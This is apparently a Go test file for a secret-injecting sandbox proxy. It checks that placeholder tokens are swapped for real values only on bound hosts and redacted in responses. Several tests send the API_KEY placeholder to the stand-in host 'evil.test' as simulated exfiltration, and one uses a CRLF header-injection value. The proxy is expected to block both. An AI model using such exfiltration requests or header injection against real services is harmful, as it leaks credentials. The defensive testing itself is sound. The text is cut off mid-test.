package proxy

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"
)

const (
	phKey   = "jail-secret-API_KEY-r4nd0m"
	valKey  = "sk-real+value/123=" // needs escaping in URLs and forms
	phTok   = "jail-secret-OTHER_TOKEN-x9y8"
	valTok  = "ghp_otherRealValue987"
	phLone  = "jail-secret-LONELY_SECRET-z1"
	valLone = "lonely-real-value-55"
)

// everywhere is every place a value can be injected.
var everywhere = []string{"header", "query", "path", "body"}

func testSecrets() []Secret {
	return []Secret{
		{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"api.test", "plain.test:80"}, Inject: everywhere},
		{Name: "OTHER_TOKEN", Placeholder: phTok, Value: valTok, Hosts: []string{"*.other.test"}, Inject: everywhere},
		{Name: "LONELY_SECRET", Placeholder: phLone, Value: valLone},
	}
}

// secretFixture is a proxy with testSecrets and an upstream per host:
// api.test (API_KEY's), x.other.test (OTHER_TOKEN's), evil.test (allowed,
// bound to nothing), all TLS, and plain.test, plain HTTP.
type secretFixture struct {
	e                       *env
	api, other, evil, plain *upstream
	raw                     *recorder
	c                       *http.Client
}

func newSecretFixture(t *testing.T, h http.HandlerFunc) *secretFixture {
	t.Helper()
	upCA := memCA(t)
	f := &secretFixture{
		api:   newUpstream(t, upCA, h),
		other: newUpstream(t, upCA, h),
		evil:  newUpstream(t, upCA, h),
		plain: newUpstream(t, nil, h),
		raw:   newRecorder(t),
	}
	f.e = newEnv(t, Config{
		Rules: Rules{
			Allow: []string{"api.test", "x.other.test", "evil.test", "plain.test", "raw.test", "raw.test:22"},
			Hosts: map[string]string{"api.test": f.api.addr(), "x.other.test": f.other.addr(), "evil.test": f.evil.addr(),
				"plain.test": f.plain.addr(), "raw.test": f.raw.addr},
		},
		Upstream: &tls.Config{RootCAs: pool(upCA)},
		Secrets:  testSecrets(),
	})
	f.c = f.e.client()
	return f
}

// seen is everything the upstream received in its last request.
func (u *upstream) seen() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	if u.last == nil {
		return ""
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s\n", u.last.Method, u.last.RequestURI)
	u.last.Header.Write(&b)
	u.last.Trailer.Write(&b)
	b.WriteString("\n" + u.body)
	return b.String()
}

// logText is the whole decision log.
func (e *env) logText(t *testing.T) string {
	b, err := os.ReadFile(filepath.Join(e.logDir, logFile))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// noValues fails if a real value is in the log.
func noValues(t *testing.T, e *env) {
	t.Helper()
	log := e.logText(t)
	for _, v := range []string{valKey, valTok, valLone, url.QueryEscape(valKey)} {
		if strings.Contains(log, v) {
			t.Errorf("the log holds a real value: %s", log)
		}
	}
}

func do(t *testing.T, c *http.Client, req *http.Request) (*http.Response, string) {
	t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("%s %s: reading body: %v", req.Method, req.URL, err)
	}
	return resp, string(b)
}

func TestSecretInjection(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	tests := []struct {
		name string
		req  func() *http.Request
		// got checks the request the upstream received.
		got func(r *http.Request, body string) bool
	}{
		{"authorization", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://api.test/v1/models", nil)
			r.Header.Set("Authorization", "Bearer "+phKey)
			return r
		}, func(r *http.Request, _ string) bool { return r.Header.Get("Authorization") == "Bearer "+valKey }},
		{"x-api-key", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://api.test/v1/messages", nil)
			r.Header.Set("x-api-key", phKey)
			return r
		}, func(r *http.Request, _ string) bool { return r.Header.Get("X-Api-Key") == valKey }},
		{"basic auth (git)", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://api.test/repo.git/info/refs", nil)
			r.SetBasicAuth("x-access-token", phKey)
			return r
		}, func(r *http.Request, _ string) bool {
			u, p, ok := r.BasicAuth()
			return ok && u == "x-access-token" && p == valKey
		}},
		{"query", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://api.test/search?q=go&key="+phKey, nil)
			return r
		}, func(r *http.Request, _ string) bool {
			return r.URL.Query().Get("key") == valKey && r.URL.Query().Get("q") == "go"
		}},
		{"path", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://api.test/bot"+phKey+"/getMe", nil)
			return r
		}, func(r *http.Request, _ string) bool { return r.URL.Path == "/bot"+valKey+"/getMe" }},
		{"json body", func() *http.Request {
			r, _ := http.NewRequest("POST", "https://api.test/v1/auth", strings.NewReader(`{"api_key": "`+phKey+`", "n": 1}`))
			r.Header.Set("Content-Type", "application/json; charset=utf-8")
			return r
		}, func(r *http.Request, body string) bool {
			want := `{"api_key": "` + valKey + `", "n": 1}`
			return body == want && r.ContentLength == int64(len(want))
		}},
		{"form body", func() *http.Request {
			r, _ := http.NewRequest("POST", "https://api.test/oauth/token", strings.NewReader("grant=client&secret="+phKey))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		}, func(r *http.Request, body string) bool {
			v, err := url.ParseQuery(body)
			return err == nil && v.Get("secret") == valKey && v.Get("grant") == "client" && r.ContentLength == int64(len(body))
		}},
		{"second secret on a wildcard host", func() *http.Request {
			r, _ := http.NewRequest("GET", "https://x.other.test/user", nil)
			r.Header.Set("Authorization", "token "+phTok)
			return r
		}, func(r *http.Request, _ string) bool { return r.Header.Get("Authorization") == "token "+valTok }},
		{"plain HTTP", func() *http.Request {
			r, _ := http.NewRequest("POST", "http://plain.test/v1?key="+phKey, strings.NewReader("key="+phKey))
			r.Header.Set("Authorization", "Bearer "+phKey)
			r.Header.Set("Content-Type", "text/plain")
			return r
		}, func(r *http.Request, body string) bool {
			return r.Header.Get("Authorization") == "Bearer "+valKey && r.URL.Query().Get("key") == valKey && body == "key="+valKey
		}},
	}
	for _, tt := range tests {
		req := tt.req()
		up := f.api
		switch req.URL.Host {
		case "x.other.test":
			up = f.other
		case "plain.test":
			up = f.plain
		}
		resp, body := do(t, f.c, req)
		if resp.StatusCode != 200 {
			t.Errorf("%s: %d %q", tt.name, resp.StatusCode, body)
			continue
		}
		up.mu.Lock()
		last, lastBody := up.last, up.body
		up.mu.Unlock()
		if !tt.got(last, lastBody) {
			t.Errorf("%s: the upstream got\n%s", tt.name, up.seen())
		}
		if s := up.seen(); strings.Contains(s, PlaceholderPrefix) {
			t.Errorf("%s: a placeholder reached the upstream:\n%s", tt.name, s)
		}
		path := req.URL.Path
		got := f.e.entry(t, func(x Entry) bool { return x.Path == path })
		want := "API_KEY"
		if req.URL.Host == "x.other.test" {
			want = "OTHER_TOKEN"
		}
		if got.Verdict != "allow" || !slices.Equal(got.Injected, []string{want}) || !strings.HasPrefix(got.Rule, "allow ") {
			t.Errorf("%s: log entry %+v", tt.name, got)
		}
	}
	noValues(t, f.e)
}

// TestSecretInjectionSOCKS: TLS intercepted in a SOCKS tunnel is served
// like TLS after CONNECT.
func TestSecretInjectionSOCKS(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	code, c := socks(t, f.e.socksAddr, socksConnect, socksDomain, "api.test", 443)
	if code != 0 {
		t.Fatalf("SOCKS CONNECT: %#x", code)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: pool(f.e.ca)})
	io.WriteString(tc, "GET /socks HTTP/1.1\r\nHost: api.test\r\nx-api-key: "+phKey+"\r\nConnection: close\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	f.api.mu.Lock()
	got := f.api.last.Header.Get("X-Api-Key")
	f.api.mu.Unlock()
	if resp.StatusCode != 200 || got != valKey {
		t.Fatalf("status %d, the upstream got x-api-key %q", resp.StatusCode, got)
	}
}

// tunnelTo opens an intercepted TLS tunnel to host through the HTTP proxy.
func tunnelTo(t *testing.T, f *secretFixture, host string) (*tls.Conn, *bufio.Reader) {
	t.Helper()
	_, _, c, _ := raw(t, f.e.httpAddr, "CONNECT "+host+":443 HTTP/1.1\r\nHost: "+host+":443\r\n\r\n")
	tc := tls.Client(c, &tls.Config{ServerName: host, RootCAs: pool(f.e.ca)})
	return tc, bufio.NewReader(tc)
}

func TestSecretChunkedBody(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)

	t.Run("split across chunks", func(t *testing.T) {
		tc, br := tunnelTo(t, f, "api.test")
		io.WriteString(tc, "POST /chunked HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
		for _, part := range []string{`{"key":"jail-sec`, `ret-API_K`, `EY-r4nd0m","more":"` + phKey[:10], `"}`} {
			fmt.Fprintf(tc, "%x\r\n%s\r\n", len(part), part)
			time.Sleep(10 * time.Millisecond) // separate reads in the proxy
		}
		io.WriteString(tc, "0\r\n\r\n")
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		f.api.mu.Lock()
		body, te := f.api.body, f.api.last.TransferEncoding
		f.api.mu.Unlock()
		if want := `{"key":"` + valKey + `","more":"` + phKey[:10] + `"}`; resp.StatusCode != 200 || body != want {
			t.Fatalf("status %d, the upstream got %q, want %q", resp.StatusCode, body, want)
		}
		if !slices.Equal(te, []string{"chunked"}) {
			t.Errorf("the upstream got Transfer-Encoding %q, want chunked kept", te)
		}
	})

	t.Run("larger than the bound, streamed", func(t *testing.T) {
		// The placeholder straddles the 4 MiB mark and two writes.
		pad := strings.Repeat("a", maxSecretBody-len(`{"pad":"`)-5)
		parts := []string{`{"pad":"` + pad + `","k":"jail-se`, `cret-API_KEY-r4`, `nd0m","tok":"` + phKey + `"}`}
		pr, pw := io.Pipe()
		go func() {
			for _, p := range parts {
				pw.Write([]byte(p))
				time.Sleep(5 * time.Millisecond)
			}
			pw.Close()
		}()
		req, _ := http.NewRequest("POST", "https://api.test/big", pr)
		req.Header.Set("Content-Type", "application/json")
		resp, body := do(t, f.c, req)
		if resp.StatusCode != 200 {
			t.Fatalf("%d %q", resp.StatusCode, body)
		}
		want := strings.ReplaceAll(strings.Join(parts, ""), phKey, valKey)
		f.api.mu.Lock()
		got := f.api.body
		f.api.mu.Unlock()
		if got != want {
			t.Fatalf("the upstream got %d bytes, want %d; tail %q", len(got), len(want), got[max(0, len(got)-80):])
		}
		e := f.e.entry(t, func(x Entry) bool { return x.Path == "/big" })
		if !slices.Equal(e.Injected, []string{"API_KEY"}) || e.BytesUp != int64(len(strings.Join(parts, ""))) {
			t.Errorf("log entry %+v", e)
		}
	})

	t.Run("larger than the bound with a length", func(t *testing.T) {
		big := strings.Repeat("b", maxSecretBody) + phKey
		req, _ := http.NewRequest("POST", "https://api.test/too-big", strings.NewReader(big))
		req.Header.Set("Content-Type", "text/plain")
		resp, body := do(t, f.c, req)
		if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.HasPrefix(body, "jail: API_KEY is in a request body larger than 4 MiB") {
			t.Fatalf("%d %q", resp.StatusCode, body)
		}
		e := f.e.entry(t, func(x Entry) bool { return x.Path == "/too-big" })
		if e.Verdict != "deny" || e.Rule != "secret API_KEY" {
			t.Errorf("log entry %+v", e)
		}
		f.api.mu.Lock()
		if f.api.last.URL.Path == "/too-big" && strings.Contains(f.api.body, valKey) {
			t.Error("the value was sent")
		}
		f.api.mu.Unlock()
	})
	noValues(t, f.e)
}

func TestSecretExfiltration(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	tests := []struct {
		name, host, msg, where string
		req                    func(host string) *http.Request
	}{
		{"header", "evil.test", "", "header X-Api-Key", func(h string) *http.Request {
			r, _ := http.NewRequest("GET", "https://"+h+"/h", nil)
			r.Header.Set("x-api-key", phKey)
			return r
		}},
		{"query", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
			r, _ := http.NewRequest("GET", "https://"+h+"/q?k="+phKey, nil)
			return r
		}},
		{"json body", "evil.test", "", "body", func(h string) *http.Request {
			r, _ := http.NewRequest("POST", "https://"+h+"/j", strings.NewReader(`{"k":"`+phKey+`"}`))
			r.Header.Set("Content-Type", "application/json")
			return r
		}},
		{"chunked json body", "evil.test", "", "body", func(h string) *http.Request {
			pr, pw := io.Pipe()
			go func() { io.WriteString(pw, `{"k":"jail-secret-A`); io.WriteString(pw, `PI_KEY-r4nd0m"}`); pw.Close() }()
			r, _ := http.NewRequest("POST", "https://"+h+"/c", pr)
			r.Header.Set("Content-Type", "application/json")
			return r
		}},
		{"basic auth", "evil.test", "", "header Authorization", func(h string) *http.Request {
			r, _ := http.NewRequest("GET", "https://"+h+"/b", nil)
			r.SetBasicAuth("git", phKey)
			return r
		}},
		{"another secret's host", "x.other.test", "", "header Authorization", func(h string) *http.Request {
			r, _ := http.NewRequest("GET", "https://"+h+"/o", nil)
			r.Header.Set("Authorization", "Bearer "+phKey)
			return r
		}},
		{"plain HTTP", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
			r, _ := http.NewRequest("GET", "http://"+h+"/p?k="+phKey, nil)
			return r
		}},
	}
	for _, tt := range tests {
		req := tt.req(tt.host)
		resp, body := do(t, f.c, req)
		want := `jail: API_KEY may only be sent to api.test, plain.test:80; add "` + tt.host + `" to "secrets.env" {"API_KEY": ["api.test", "plain.test:80"]} in jail.json if this is intended` + "\n"
		if resp.StatusCode != 403 || body != want {
			t.Errorf("%s: %d %q, want 403 %q", tt.name, resp.StatusCode, body, want)
		}
		path := req.URL.Path
		e := f.e.entry(t, func(x Entry) bool { return x.Path == path })
		if e.Verdict != "deny" || e.Rule != "secret API_KEY" || e.Host != tt.host ||
			!strings.HasPrefix(e.Reason, "exfiltration attempt: API_KEY in the "+tt.where+" to "+tt.host) || len(e.Injected) != 0 {
			t.Errorf("%s: log entry %+v", tt.name, e)
		}
	}
	if n := f.evil.hits.Load() + f.other.hits.Load(); n != 0 {
		t.Errorf("the unbound upstreams received %d requests", n)
	}

	// A secret with no binding goes nowhere, and the refusal says which
	// binding to add.
	for _, host := range []string{"api.test", "evil.test"} {
		req, _ := http.NewRequest("POST", "https://"+host+"/lonely", strings.NewReader("t="+phLone))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		resp, body := do(t, f.c, req)
		want := `jail: LONELY_SECRET has no binding; add "secrets": {"env": {"LONELY_SECRET": ["` + host + `"]}} to jail.json` + "\n"
		if resp.StatusCode != 403 || body != want {
			t.Errorf("unbound secret to %s: %d %q", host, resp.StatusCode, body)
		}
		e := f.e.entry(t, func(x Entry) bool { return x.Path == "/lonely" && x.Host == host })
		if e.Verdict != "deny" || !strings.HasPrefix(e.Reason, "exfiltration attempt: LONELY_SECRET") || !strings.Contains(e.Reason, "no binding") {
			t.Errorf("log entry %+v", e)
		}
	}
	// A bound and an unbound placeholder together: nothing is sent.
	req, _ := http.NewRequest("GET", "https://api.test/mixed?a="+phKey+"&b="+phTok, nil)
	if resp, body := do(t, f.c, req); resp.StatusCode != 403 || !strings.HasPrefix(body, "jail: OTHER_TOKEN may only be sent to *.other.test;") {
		t.Errorf("mixed: %d %q", resp.StatusCode, body)
	}
	if n := f.evil.hits.Load() + f.other.hits.Load() + f.api.hits.Load(); n != 0 {
		t.Errorf("the upstreams received %d requests", n)
	}

	// A binary body is streamed and cut at the placeholder.
	req, _ = http.NewRequest("POST", "https://evil.test/upload", bytes.NewReader(append([]byte("\x00\x01binary "), phKey+" tail"...)))
	req.Header.Set("Content-Type", "application/octet-stream")
	if resp, body := do(t, f.c, req); resp.StatusCode != 403 {
		t.Errorf("binary body: %d %q", resp.StatusCode, body)
	}
	if s := f.evil.seen(); strings.Contains(s, phKey) {
		t.Errorf("the placeholder reached evil.test: %q", s)
	}
	f.e.entry(t, func(x Entry) bool {
		return x.Path == "/upload" && x.Verdict == "deny" && strings.HasPrefix(x.Reason, "exfiltration attempt: API_KEY in the body")
	})
	noValues(t, f.e)
}

// TestSecretHeaderLineBreak checks that a value with a line break is
// never written into a header field, where it would add fields of its own.
func TestSecretHeaderLineBreak(t *testing.T) {
	t.Parallel()
	const ph, val = "jail-secret-CRLF_KEY-q1", "abc\r\nX-Evil: 1"
	up := newUpstream(t, nil, nil)
	e := newEnv(t, Config{
		Rules:   Rules{Allow: []string{"crlf.test"}, Hosts: map[string]string{"crlf.test": up.addr()}},
		Secrets: []Secret{{Name: "CRLF_KEY", Placeholder: ph, Value: val, Hosts: []string{"crlf.test"}, Inject: everywhere}},
	})
	c := e.client()
	req, _ := http.NewRequest("GET", "http://crlf.test/header", nil)
	req.Header.Set("X-Api-Key", ph)
	resp, body := do(t, c, req)
	want := "jail: CRLF_KEY cannot be sent in a header: its value contains a line break or NUL\n"
	if resp.StatusCode != 400 || body != want {
		t.Errorf("%d %q, want 400 %q", resp.StatusCode, body, want)
	}
	got := e.entry(t, func(x Entry) bool { return x.Path == "/header" })
	if got.Verdict != "deny" || got.Rule != "secret CRLF_KEY" || got.Host != "crlf.test" ||
		got.Reason != "secret CRLF_KEY cannot be sent in a header (line break or NUL in its value)" || len(got.Injected) != 0 {
		t.Errorf("log entry %+v", got)
	}
	if n := up.hits.Load(); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}

	// The host is bound: in a body, where a line break is harmless, the
	// value is injected.
	req, _ = http.NewRequest("POST", "http://crlf.test/body", strings.NewReader("k="+ph))
	req.Header.Set("Content-Type", "text/plain")
	if resp, body := do(t, c, req); resp.StatusCode != 200 {
		t.Errorf("body: %d %q", resp.StatusCode, body)
	}
	if s := up.seen(); !strings.HasSuffix(s, "\nk="+val) || strings.Contains(s, "X-Evil: 1\r\n") {
		t.Errorf("the upstream received %q", s)
	}
}

func TestSecretRedaction(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", "key="+valKey)
		switch r.URL.Path {
		case "/length":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"echo":%q,"tok":%q}`, valKey, valTok)
		case "/split":
			w.Header().Set("Content-Type", "text/plain")
			for _, part := range []string{"before " + valKey[:5], valKey[5:11], valKey[11:] + " middle " + valTok[:1], valTok[1:] + " after"} {
				io.WriteString(w, part)
				w.(http.Flusher).Flush()
				time.Sleep(10 * time.Millisecond)
			}
		case "/gzip":
			w.Header().Set("Content-Type", "text/plain")
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			io.WriteString(zw, "zipped "+valKey+" end")
			zw.Close()
		case "/escaped":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"q":%q}`, url.QueryEscape(valKey))
		case "/binary":
			w.Header().Set("Content-Type", "application/octet-stream")
			io.WriteString(w, "\x00bin")
		}
	})
	for _, tt := range []struct{ host, path, want string }{
		{"api.test", "/length", `{"echo":"` + phKey + `","tok":"` + phTok + `"}`},
		{"evil.test", "/length", `{"echo":"` + phKey + `","tok":"` + phTok + `"}`}, // every host
		{"api.test", "/split", "before " + phKey + " middle " + phTok + " after"},
		{"plain.test", "/split", "before " + phKey + " middle " + phTok + " after"},
		{"api.test", "/gzip", "zipped " + phKey + " end"},
		{"api.test", "/escaped", `{"q":"` + phKey + `"}`},
		{"api.test", "/binary", "\x00bin"},
	} {
		scheme := "https"
		if tt.host == "plain.test" {
			scheme = "http"
		}
		req, _ := http.NewRequest("GET", scheme+"://"+tt.host+tt.path, nil)
		req.Header.Set("Accept-Encoding", "gzip") // the client decodes nothing itself
		resp, body := do(t, f.c, req)
		if resp.StatusCode != 200 || body != tt.want || resp.Header.Get("X-Echo") != "key="+phKey {
			t.Errorf("%s%s: %d %q, X-Echo %q; want %q", tt.host, tt.path, resp.StatusCode, body, resp.Header.Get("X-Echo"), tt.want)
		}
		if tt.path == "/length" && resp.ContentLength != int64(len(tt.want)) {
			t.Errorf("%s%s: Content-Length %d, want %d", tt.host, tt.path, resp.ContentLength, len(tt.want))
		}
		if tt.path == "/gzip" && resp.Header.Get("Content-Encoding") != "" {
			t.Errorf("gzip: Content-Encoding %q after decoding", resp.Header.Get("Content-Encoding"))
		}
	}

	// A request that carries a value asks only for codings the proxy can
	// decode.
	req, _ := http.NewRequest("GET", "https://api.test/length", nil)
	req.Header.Set("Authorization", "Bearer "+phKey)
	req.Header.Set("Accept-Encoding", "br, gzip;q=0.8, zstd")
	do(t, f.c, req)
	f.api.mu.Lock()
	if got := f.api.last.Header.Get("Accept-Encoding"); got != "gzip;q=0.8" {
		t.Errorf("Accept-Encoding %q reached the upstream, want gzip;q=0.8", got)
	}
	f.api.mu.Unlock()
}

func TestSecretsUntouched(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	payload := `{"msg": "no secret here", "fake": "jail-secret-UNKNOWN-abc"}`
	req, _ := http.NewRequest("POST", "https://evil.test/plain?x=1&y=jail-secret-NOPE", strings.NewReader(payload))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Custom", "a, b;  c")
	req.Header.Set("Accept-Encoding", "br, zstd")
	req.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("u:jail-secret-NOPE")))
	resp, _ := do(t, f.c, req)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	f.evil.mu.Lock()
	last, body := f.evil.last, f.evil.body
	f.evil.mu.Unlock()
	// Accept-Encoding keeps only what the proxy can decode to redact a
	// response: br and zstd go.
	for k, want := range map[string]string{"Content-Type": "application/json", "X-Custom": "a, b;  c", "Accept-Encoding": "",
		"Authorization": req.Header.Get("Authorization")} {
		if got := last.Header.Get(k); got != want {
			t.Errorf("%s: %q, want %q", k, got, want)
		}
	}
	if body != payload || last.ContentLength != int64(len(payload)) || last.RequestURI != "/plain?x=1&y=jail-secret-NOPE" {
		t.Errorf("the upstream got %s %q (length %d)", last.RequestURI, body, last.ContentLength)
	}

	// A chunked body without placeholders stays chunked and the same.
	pr, pw := io.Pipe()
	go func() { io.WriteString(pw, "one "); io.WriteString(pw, "two"); pw.Close() }()
	req, _ = http.NewRequest("POST", "https://api.test/chunks", pr)
	req.Header.Set("Content-Type", "text/plain")
	do(t, f.c, req)
	f.api.mu.Lock()
	if f.api.body != "one two" || !slices.Equal(f.api.last.TransferEncoding, []string{"chunked"}) {
		t.Errorf("chunked: %q %q", f.api.body, f.api.last.TransferEncoding)
	}
	f.api.mu.Unlock()
	if e := f.e.entry(t, func(x Entry) bool { return x.Path == "/chunks" }); e.Verdict != "allow" || e.Injected != nil {
		t.Errorf("log entry %+v", e)
	}
}

// recorder is a TCP server that echoes and keeps every byte it receives.
type recorder struct {
	addr string
	mu   sync.Mutex
	got  bytes.Buffer
}

func newRecorder(t *testing.T) *recorder {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	r := &recorder{addr: l.Addr().String()}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				b := make([]byte, 4096)
				for {
					n, err := c.Read(b)
					r.mu.Lock()
					r.got.Write(b[:n])
					r.mu.Unlock()
					c.Write(b[:n])
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return r
}

func (r *recorder) received() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.got.String()
}

func TestSecretRawTunnel(t *testing.T) {
	t.Parallel()
	f := newSecretFixture(t, nil)
	for _, via := range []string{"CONNECT", "SOCKS5"} {
		var c net.Conn
		if via == "CONNECT" {
			_, _, c, _ = raw(t, f.e.httpAddr, "CONNECT raw.test:22 HTTP/1.1\r\nHost: raw.test:22\r\n\r\n")
		} else {
			var code byte
			if code, c = socks(t, f.e.socksAddr, socksConnect, socksDomain, "raw.test", 22); code != 0 {
				t.Fatalf("SOCKS: %#x", code)
			}
		}
		io.WriteString(c, "hello "+via+"\n") // not TLS, not HTTP: relayed raw
		echo := make([]byte, len("hello "+via+"\n"))
		if _, err := io.ReadFull(c, echo); err != nil {
			t.Fatalf("%s: echo: %v", via, err)
		}
		io.WriteString(c, "token jail-secret-AP")
		time.Sleep(20 * time.Millisecond)
		io.WriteString(c, "I_KEY-r4nd0m and more")
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		rest, err := io.ReadAll(c)
		if err != nil {
			t.Fatalf("%s: the tunnel was not cut: %v", via, err)
		}
		if strings.Contains(string(rest), phKey) {
			t.Errorf("%s: the placeholder went through: %q", via, rest)
		}
		scheme := map[string]string{"CONNECT": "tcp", "SOCKS5": "socks5"}[via]
		e := f.e.entry(t, func(x Entry) bool { return x.Host == "raw.test" && x.Scheme == scheme && x.Verdict == "deny" })
		if e.Rule != "secret API_KEY" || !strings.HasPrefix(e.Reason, "exfiltration attempt: API_KEY in a raw tunnel to raw.test") {
			t.Errorf("%s: log entry %+v", via, e)
		}
	}
	if got := f.raw.received(); strings.Contains(got, phKey) || !strings.Contains(got, "hello SOCKS5") {
		t.Errorf("the raw server received %q", got)
	}
}

func TestNewRejectsSecrets(t *testing.T) {
	for _, s := range []Secret{
		{Name: "", Placeholder: phKey},
		{Name: "X", Placeholder: "not-a-placeholder"},
		{Name: "X", Placeholder: phKey, Hosts: []string{"*"}},
		{Name: "X", Placeholder: "jail-secret-"},
	} {
		_, err := New(Config{CA: memCA(t), Secrets: []Secret{s}})
		if err == nil {
			t.Errorf("New accepted %+v", s)
		}
	}
	if _, err := New(Config{CA: memCA(t), Secrets: []Secret{{Name: "A", Placeholder: phKey}, {Name: "B", Placeholder: phKey}}}); err == nil {
		t.Error("New accepted one placeholder for two secrets")
	}
	_, err := New(Config{CA: memCA(t), Secrets: []Secret{{Name: "A", Placeholder: phKey, Value: "v4lue-never-shown", Hosts: []string{"bad host"}}}})
	if err == nil || strings.Contains(err.Error(), "v4lue") {
		t.Errorf("New with a bad host: %v", err)
	}
}

// TestReplacingReader compares the streaming replacer, fed in random
// pieces, with strings.Replacer on the whole.
func TestReplacingReader(t *testing.T) {
	pats := []string{"jail-secret-A-1", "jail-secret-AB-2", "sk-abc", "sk-abcdef", "zz"}
	repl := []string{"<A>", "<AB>", "<sk>", "<SK>", ""}
	var bs [][]byte
	for _, p := range pats {
		bs = append(bs, []byte(p))
	}
	m := newMatcher(bs)
	r := replacer{m: m, repl: func(k int) ([]byte, error) { return []byte(repl[k]), nil }}
	var pairs []string
	// strings.Replacer picks the first pattern in argument order at a
	// position; longest first matches leftmost-longest.
	for _, i := range []int{3, 1, 0, 2, 4} {
		pairs = append(pairs, pats[i], repl[i])
	}
	want := strings.NewReplacer(pairs...)
	rng := rand.New(rand.NewPCG(1, 2))
	alphabet := []string{"a", "b", "j", "sk-", "jail-", "secret-", "A-", "1", "2", "B", "abc", "def", "z", "\n"}
	for range 2000 {
		var in strings.Builder
		for range rng.IntN(60) {
			if rng.IntN(5) == 0 {
				in.WriteString(pats[rng.IntN(len(pats))])
			} else {
				in.WriteString(alphabet[rng.IntN(len(alphabet))])
			}
		}
		s := in.String()
		var src io.Reader = strings.NewReader(s)
		if rng.IntN(2) == 0 {
			src = iotest.OneByteReader(src)
		} else {
			src = iotest.HalfReader(src)
		}
		got, err := io.ReadAll(newReplacingReader(src, r))
		if err != nil || string(got) != want.Replace(s) {
			t.Fatalf("%q: got %q, want %q (%v)", s, got, want.Replace(s), err)
		}
		// The scanner finds a placeholder whatever the pieces.
		sc := scanner{m: newMatcher(bs[:2])}
		found := false
		for i := 0; i < len(s); {
			n := 1 + rng.IntN(4)
			found = found || sc.scan([]byte(s[i:min(len(s), i+n)])) >= 0
			i += n
		}
		if wantFound := strings.Contains(s, pats[0]) || strings.Contains(s, pats[1]); found != wantFound {
			t.Fatalf("%q: scanner found %v", s, found)
		}
	}
}

// TestSecretStreams: with secrets, a streamed response still reaches the
// client as it arrives, and an upgraded connection is cut at a
// placeholder.
func TestSecretStreams(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/events":
			w.Header().Set("Content-Type", "text/event-stream")
			io.WriteString(w, "data: "+valKey+"\n\n")
			w.(http.Flusher).Flush()
			<-release
			io.WriteString(w, "data: done\n\n")
		case "/upgrade":
			c, brw, _ := http.NewResponseController(w).Hijack()
			defer c.Close()
			io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
			io.Copy(c, brw)
		}
	})
	resp, err := f.c.Get("https://api.test/events")
	if err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(resp.Body)
	line, err := br.ReadString('\n')
	if err != nil || line != "data: "+phKey+"\n" {
		t.Fatalf("first event %q, %v", line, err)
	}
	close(release) // the first event arrived before the upstream finished
	rest, _ := io.ReadAll(br)
	resp.Body.Close()
	if string(rest) != "\ndata: done\n\n" {
		t.Fatalf("rest %q", rest)
	}

	req, _ := http.NewRequest("GET", "https://evil.test/upgrade", nil)
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "echo")
	resp, err = f.c.Do(req)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("upgrade: %v %v", resp, err)
	}
	rw := resp.Body.(io.ReadWriteCloser)
	defer rw.Close()
	io.WriteString(rw, "ping ")
	b := make([]byte, 5)
	if _, err := io.ReadFull(rw, b); err != nil || string(b) != "ping " {
		t.Fatalf("echo %q, %v", b, err)
	}
